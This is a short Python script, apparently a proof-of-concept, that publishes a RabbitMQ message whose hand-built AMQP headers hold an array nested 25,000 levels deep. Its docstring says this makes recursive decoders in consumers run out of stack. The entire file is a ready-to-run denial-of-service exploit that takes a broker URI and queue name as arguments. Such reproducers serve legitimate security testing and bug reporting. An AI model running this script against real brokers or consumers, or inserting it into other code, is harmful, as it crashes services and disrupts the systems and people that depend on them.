"""Publishes a message whose headers hold an array nested 25 000 deep. usage: nested_message.py URI QUEUE

RabbitMQ forwards it. A decoder that recurses over it runs out of stack. No encoder makes such a table, so it is put
together here by hand: an array costs five bytes a level, and all levels together must fit one frame.
"""

import struct
import sys

import pika

DEPTH = 25_000


class NestedProperties(pika.BasicProperties):
    def encode(self):
        array = b""
        for _ in range(DEPTH):
            array = b"A" + struct.pack(">I", len(array)) + array
        entry = b"\x06nested" + array
        return [struct.pack(">H", self.FLAG_HEADERS), struct.pack(">I", len(entry)), entry]


uri, queue = sys.argv[1:]
connection = pika.BlockingConnection(pika.URLParameters(uri))
channel = connection.channel()
channel.confirm_delivery()
channel.basic_publish("", queue, b"{}", NestedProperties(), mandatory=True)
connection.close()
